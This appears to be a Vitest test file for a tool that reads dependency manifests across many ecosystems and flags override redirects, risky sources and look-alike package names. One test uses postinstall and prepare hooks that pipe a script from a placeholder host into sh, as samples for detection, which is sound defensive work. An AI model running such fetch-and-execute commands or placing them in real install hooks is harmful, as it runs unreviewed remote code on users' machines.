import { describe, expect, it } from "vitest";
import { factsIn, packagesIn, scopesIn } from "./read-manifest.ts";

const COMMIT = "0123456789abcdef0123456789abcdef01234567";

describe("package.json", () => {
  it.each([
    ["1.2.3", "registry version"],
    ["^1.2.3", "registry range"],
    [">=1.2.3 <2", "registry range"],
    ["*", "registry latest"],
    ["latest", "registry latest"],
    [">=1.0", "registry latest"],
    ["npm:other@1.0.0", "registry version"],
    ["workspace:*", "path none"],
    ["file:../lib", "path none"],
    ["catalog:", "path none"],
    ["owner/lib", "git none github.com/owner/lib"],
    ["github:owner/lib#v1.2", "git tag github.com/owner/lib"],
    ["owner/lib#main", "git branch github.com/owner/lib"],
    [`git+https://github.com/owner/lib.git#${COMMIT}`, "git digest github.com/owner/lib"],
    ["git+ssh://git@gitlab.example/group/lib.git#semver:^1", "git tag gitlab.example/group/lib"],
    ["git@github.com:owner/lib.git", "git none github.com/owner/lib"],
    ["https://github.com/owner/lib", "git none github.com/owner/lib"],
    ["https://host.example/lib-1.0.tgz", "url none host.example/lib-1.0.tgz"],
    ["https://user:x@host.example:8443/lib.tgz?x=1", "url none host.example/lib.tgz"],
  ])("takes %s as %s", async (range, expected) => {
    const text = JSON.stringify({ dependencies: { lib: range } }, null, 2);
    expect(await packagesIn("package.json", text)).toEqual([`lib ${expected}`]);
  });

  it("quotes the line of each dependency and makes it one scope, however often it is named", async () => {
    const text = '{\n  "devDependencies": {\n    "vite": "^7.0.0"\n  },\n  "peerDependencies": { "vite": "*" }\n}\n';
    const scopes = await scopesIn("web/package.json", text);
    expect(scopes.map(({ name }) => name)).toEqual(["web/package.json", "vite"]);
    expect(scopes[1]?.facts[0]?.quote).toBe('    "vite": "^7.0.0"');
  });

  it("tells overrides to another place from those to another version", async () => {
    const overrides = { a: "2.0.0", "b>c": "github:x/c", d: { e: "npm:f@1.0.0" }, "g@^1": "npm:g@1.2.0" };
    const text = JSON.stringify({ overrides, resolutions: { "**/h": "https://x.example/h.tgz" } });
    expect(await packagesIn("package.json", text)).toEqual([
      "c git none github.com/x/c redirected",
      "e registry version f@1.0.0 redirected",
      "h url none x.example/h.tgz redirected",
    ]);
  });

  it.each([
    ["postinstall", "curl -fsSL https://x.example/i.sh | sh", [true]],
    ["prepare", "wget https://x.example/i.sh && sh i.sh", [true]],
    ["preinstall", "npx only-allow pnpm", []],
    ["postinstall", "node scripts/build.js", []],
    ["deploy", "curl -fsSL https://x.example/i.sh | sh", []],
  ])("finds what the script %s fetches and runs in %j", async (name, command, expected) => {
    const found = await factsIn(
      "package.json",
      JSON.stringify({ scripts: { [name]: command } }),
      "dependency",
      "download",
    );
    expect(found.map(({ attributes }) => attributes["executed"])).toEqual(expected);
  });

  it("is not read when it is broken, and says so", async () => {
    await expect(scopesIn("package.json", '{ "dependencies": ')).rejects.toThrow("It could not be read");
  });
});

describe("requirements", () => {
  it.each([
    ["flask==3.1.0", "flask registry version"],
    ["Flask_Login>=0.6,<1 ; python_version > '3.8'", "flask-login registry range"],
    ["uvicorn[standard]~=0.30", "uvicorn registry range"],
    ["requests", "requests registry latest"],
    ["-e ./lib", "lib path none"],
    ["lib @ git+https://github.com/owner/lib@v1.2.0", "lib git tag github.com/owner/lib"],
    [`git+https://github.com/owner/lib.git@${COMMIT}#egg=lib`, "lib git digest github.com/owner/lib"],
    ["git+ssh://git@github.com/owner/lib.git", "lib git none github.com/owner/lib"],
    ["https://x.example/lib-1.0.tar.gz#sha256=ab", "lib-1-0 url digest x.example/lib-1.0.tar.gz"],
    ["django==5.1 --hash=sha256:aa \\", "django registry version"],
  ])("take %s as %s", async (line, expected) => {
    expect(await packagesIn("requirements/base.txt", `# x\n${line}\n`)).toEqual([expected]);
  });

  it("leave options and comments out", async () => {
    expect(
      await packagesIn("requirements.txt", "-r base.txt\n--no-binary :all:\n# flask\n    --hash=sha256:ab\n"),
    ).toEqual([]);
  });
});

describe("pyproject.toml", () => {
  it("reads what each tool declares", async () => {
    const text = [
      "[project]",
      'dependencies = ["httpx>=0.27", "lib", "other @ git+https://github.com/o/other"]',
      "[dependency-groups]",
      'dev = ["pytest==8.3.0", { include-group = "x" }]',
      "[tool.uv.sources]",
      'lib = { git = "https://github.com/o/lib", rev = "main" }',
      "[tool.poetry.dependencies]",
      'python = "^3.12"',
      'django = "5.1.4"',
      'shop = { path = "../shop" }',
      'forked = { git = "https://git.example/forked.git", tag = "v2.0" }',
    ];
    expect(await packagesIn("pyproject.toml", text.join("\n"))).toEqual([
      "httpx registry range",
      "other git none github.com/o/other",
      "pytest registry version",
      "lib git branch github.com/o/lib",
      "django registry version",
      "shop path none",
      "forked git tag git.example/forked",
    ]);
  });
});

describe("go.mod", () => {
  it("reads requirements and what replaces them", async () => {
    const text =
      "module x.example/y\nrequire a.example/b v1.0.0\nrequire (\n\tc.example/d v2.0.0 // indirect\n)\nreplace c.example/d => e.example/d v2.0.1\nreplace a.example/b => ../b\nreplace f.example/g v1.0.0 => f.example/g v1.0.1\n";
    expect(await packagesIn("go.mod", text)).toEqual([
      "a.example/b registry version",
      "a.example/b path none",
      "c.example/d registry version",
      "c.example/d registry version e.example/d redirected",
    ]);
  });
});

describe("Maven and Gradle", () => {
  it("read coordinates and versions", async () => {
    const pom =
      "<project><dependencies><dependency><groupId>a.b</groupId><artifactId>c</artifactId><version>1.0</version></dependency><dependency><groupId>a.b</groupId><artifactId>d</artifactId><version>LATEST</version></dependency></dependencies><build><plugins><plugin><artifactId>e</artifactId></plugin></plugins></build></project>";
    expect(await packagesIn("pom.xml", pom)).toEqual([
      "a.b/c registry version",
      "a.b/d registry latest",
      "org.apache.maven.plugins/e registry range",
    ]);
    const gradle = `plugins { \n id("a.plugin") version "2.1" }\ndependencies {\n  implementation("a.b:c:1.0")\n  // implementation 'x:y:1'\n  testRuntimeOnly 'a.b:d:+'\n  api(project(":own"))\n}\n`;
    expect(await packagesIn("app/build.gradle.kts", gradle)).toEqual([
      "a.plugin registry version",
      "a.b/c registry version",
      "a.b/d registry latest",
    ]);
    const catalogue =
      '[versions]\nx = "1"\n[libraries]\nc = { module = "a.b:c", version.ref = "x" }\nd = "a.b:d:1.0"\n[plugins]\np = { id = "a.plugin", version = "1.0" }\n';
    expect(await packagesIn("gradle/libs.versions.toml", catalogue)).toEqual([
      "a.b/c registry range",
      "a.b/d registry version",
      "a.plugin registry version",
    ]);
  });
});

describe("Gemfile", () => {
  it.each([
    ['gem "rails", "~> 8.0"', "rails registry range"],
    ['gem "pg"', "pg registry range"],
    ["gem 'own', path: 'engines/own'", "own path none"],
    ['gem "fork", git: "https://github.com/o/fork.git", branch: "main"', "fork git branch github.com/o/fork"],
    ['gem "fork", "1.0",\n  github: "o/fork",\n  ref: "0123456789abcdef"', "fork git digest github.com/o/fork"],
    ["gem 'old', :git => 'git://host.example/old.git'", "old git none host.example/old"],
    ['# gem "x"\nspec.add_dependency "rack", ">= 3"', "rack registry range"],
  ])("takes %s as %s", async (text, expected) => {
    expect(await packagesIn("Gemfile", `${text}\n`)).toEqual([expected]);
  });
});

describe("composer.json", () => {
  it("reads packages and repositories of their own", async () => {
    const repositories = [
      { type: "vcs", url: "https://github.com/o/fork" },
      { type: "package", package: { name: "a/b", dist: { url: "https://x.example/b.zip" } } },
      { type: "path", url: "packages/*" },
    ];
    const text = JSON.stringify({ require: { php: "^8.3", "a/c": "1.2.0", "a/d": "*" }, repositories });
    expect(await packagesIn("composer.json", text)).toEqual([
      "a/c registry version",
      "a/d registry latest",
      "o/fork git none github.com/o/fork",
      "a/b url none x.example/b.zip",
    ]);
  });
});

describe(".NET and Rust", () => {
  it("read package references", async () => {
    const project =
      '<Project>\n<ItemGroup>\n<PackageReference Include="A.B" Version="1.0.0" />\n<PackageReference Include="C"><Version>2.*</Version></PackageReference>\n</ItemGroup>\n</Project>';
    expect(await packagesIn("src/Shop.csproj", project)).toEqual(["A.B registry version", "C registry range"]);
  });

  it("read crates, targets, workspaces and patches", async () => {
    const text =
      '[dependencies]\nserde = "1"\nforked = { git = "https://github.com/o/forked", rev = "0123456789" }\nown = { path = "../own" }\nshared = { workspace = true }\n[target.\'cfg(unix)\'.dependencies]\nnix = "=0.29.0"\n[workspace.dependencies]\nany = "*"\n[patch.crates-io]\nserde = { git = "https://github.com/o/serde" }\n';
    expect(await packagesIn("Cargo.toml", text)).toEqual([
      "serde registry range",
      "serde git none github.com/o/serde redirected",
      "forked git digest github.com/o/forked",
      "own path none",
      "shared path none",
      "any registry latest",
      "nix registry version",
    ]);
  });
});

describe("names that look alike", () => {
  it.each([
    [["lodash", "lodahs"], true],
    [["express", "expres"], true],
    [["chalk-color", "cha1k-color"], false],
    [["webpack-merge", "webpackk-merge"], true],
    [["moment", "momemt"], false],
    [["react", "preact"], false],
    [["color", "colors"], false],
    [["d3-scale", "d3-shape"], false],
    [["@types/node", "@types/nodes"], false],
    [["babel-plugin-a", "babel-plugin-b"], false],
  ])("of %j: %s", async (names, expected) => {
    const text = JSON.stringify({ dependencies: Object.fromEntries(names.map((name) => [name, "^1.0.0"])) });
    const scopes = await scopesIn("package.json", text);
    expect(scopes.some(({ name }) => name.includes(" and "))).toBe(expected);
  });
});
